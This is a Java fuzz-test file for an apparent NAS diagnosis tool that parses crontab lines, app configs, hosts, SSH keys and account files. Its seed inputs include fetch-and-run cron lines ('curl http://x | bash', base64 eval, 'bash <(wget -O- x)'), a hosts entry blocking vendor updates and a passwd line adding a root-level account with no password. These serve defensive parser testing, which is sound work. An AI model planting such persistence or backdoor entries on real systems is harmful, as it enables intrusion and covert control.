package app.lotse.diagnosis;

import app.lotse.fuzz.Oracle;
import app.lotse.model.Level;
import app.lotse.model.Reading;
import app.lotse.model.Snapshot;
import app.lotse.model.StartPlace;
import app.lotse.model.Verdict;
import java.nio.charset.StandardCharsets;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;

/** What stands where programs start from: timetables, lists of apps, hosts, keys, accounts. A program can have written any of it. */
public final class StartsFuzz {
    private static final Knowledge KNOWLEDGE = Knowledge.shipped();

    private StartsFuzz() {}

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String text(byte[] data) {
        return new String(data, StandardCharsets.UTF_8);
    }

    /** One line for the shell, and what it starts. */
    public static final class Line {
        private Line() {}

        public static List<byte[]> seeds() {
            return List.of(
                    bytes("0 4 * * * nice -n 19 /share/CACHEDEV1_DATA/.qpkg/x/x.sh >/dev/null 2>&1 || exit 1"),
                    bytes("*/5 * * * * (cd /tmp && sh -c \"curl http://x | bash -c './a \\\"b\\\"'\")"),
                    bytes("@reboot eval `echo aGk= | base64 -d`; bash <(wget -O- x) & timeout -k 5 flock -w 1"));
        }

        public static void fuzzerTestOneInput(byte[] data) {
            String line = text(data);
            for (var command : ShellLine.commands(line)) {
                Oracle.holds(!command.words().isEmpty(), "a command without a word");
                Oracle.holds(
                        command.words().stream().mapToInt(String::length).sum() <= ShellLine.MOST_CHARACTERS,
                        "more words than there stood");
            }
            check(StartLine.of(line), line);
            StartLine.ofTimetable(line).ifPresent(found -> check(found, line));
        }

        private static void check(StartLine found, String line) {
            for (String program : found.programs()) {
                Oracle.holds(program.length() <= 2 * line.length() + 1, "a path longer than its line");
                Oracle.holds(StartPath.plain(program).equals(program), "a path with detours: " + program);
                StartPath.of(KNOWLEDGE, program);
                StartPath.threat(KNOWLEDGE, program);
            }
            String shown = Lines.withoutSecrets(line);
            Oracle.holds(shown.length() <= 6_000, "an endless line");
        }
    }

    /** All places, judged: nothing throws, and what stands there is never more than unclear. */
    public static final class Places {
        private static final Diagnosis DIAGNOSIS = Diagnosis.withShippedKnowledge();
        private static final Snapshot QUIET = Snapshots.quiet().build();

        private Places() {}

        public static List<byte[]> seeds() {
            return List.of(
                    bytes(
                            "0 4 * * * /sbin/hwclock -s\n\u0001*/2 * * * * /tmp/x\n\u0001TRUE\n\u0001[App]\nEnable = TRUE\nShell = /share/X/.qpkg/App/a.sh\nInstall_Path=/tmp/.x\n"
                                    + "\u00010.0.0.0 update.qnap.com # x\n\u0001/tmp/a.so:/tmp/b.so\n"
                                    + "\u0001ssh-ed25519 SHA256:abc me@home\ncommand=\"/tmp/x \\\"y\\\"\" ssh-rsa SHA256:x\n"
                                    + "\u0001admin::0:0:administrator:/share/homes/admin:/bin/sh\neve::00:0::/:/bin/sh\n\u0001administrators::0:admin,eve\n"),
                    bytes("[\n]\n[]\n=\n:\n::::\n# x\n\u0001"));
        }

        public static void fuzzerTestOneInput(byte[] data) {
            String[] parts = text(data).split("\u0001", StartPlace.values().length);
            Map<StartPlace, Reading<List<String>>> places = new EnumMap<>(StartPlace.class);
            for (int i = 0; i < parts.length; i++) {
                places.put(StartPlace.values()[i], Reading.known(List.of(parts[i].split("\n", -1))));
            }
            Verdict verdict = DIAGNOSIS.judge(with(places));
            Oracle.holds(verdict.level().compareTo(Level.UNCLEAR) <= 0, "a line alone is no " + verdict.level());
            verdict.findings()
                    .forEach(f -> f.evidence().forEach(e -> Oracle.plain(e.value(), 200, "evidence of " + f.check())));
        }

        private static Snapshot with(Map<StartPlace, Reading<List<String>>> places) {
            return new Snapshot(
                    QUIET.takenAt(),
                    QUIET.kernel(),
                    QUIET.model(),
                    QUIET.firmware(),
                    QUIET.build(),
                    QUIET.uptimeSeconds(),
                    QUIET.bootId(),
                    QUIET.load(),
                    QUIET.asRoot(),
                    QUIET.samples(),
                    QUIET.details(),
                    QUIET.shareTops(),
                    places,
                    QUIET.suspects());
        }
    }
}
